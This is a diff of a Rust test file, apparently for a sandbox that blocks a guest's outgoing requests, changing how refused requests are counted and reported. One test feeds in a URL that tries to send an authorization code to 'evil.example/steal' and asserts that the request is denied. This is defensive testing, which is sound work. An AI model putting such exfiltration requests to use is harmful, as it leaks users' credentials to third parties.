@@ -153,7 +153,7 @@ fn a_configuration_that_does_not_parse_says_where() {
 
 #[test]
 fn a_request_to_another_host_is_refused_with_an_ordinary_error() {
-    let events = guest::write("outgoing.jsonl", b"");
+    let events = guest::private("outgoing.jsonl", b"");
     let host = probe().arg("--events").arg(&events).start();
     let page = host.navigate("/callback?code=hunter2&ask=https://evil.example/steal?code=hunter2");
     assert_eq!(page.text().lines().next(), Some("ask: ErrorCode::HttpRequestDenied"));
@@ -174,7 +174,11 @@ fn a_guest_that_asks_too_often_is_ended() {
     assert_eq!(host.navigate(&format!("/callback?{query}")).status(), 500);
     host.wait_for_line("the guest reached its limit of 3 outgoing requests; raise it with `--max-outgoing-requests`");
     let stderr = host.stderr();
-    assert_eq!(stderr.matches("the guest wanted to reach").count(), 3, "{stderr}");
+    assert_eq!(stderr.matches("the guest wanted to reach").count(), 1, "{stderr}");
+    host.signal("TERM");
+    let stderr = host.finish().code(143).stderr;
+    let sum = "warning: refused 2 more requests of the guest to other hosts\n";
+    assert_eq!(stderr.matches(sum).count(), 1, "{stderr}");
 }
 
 #[test]
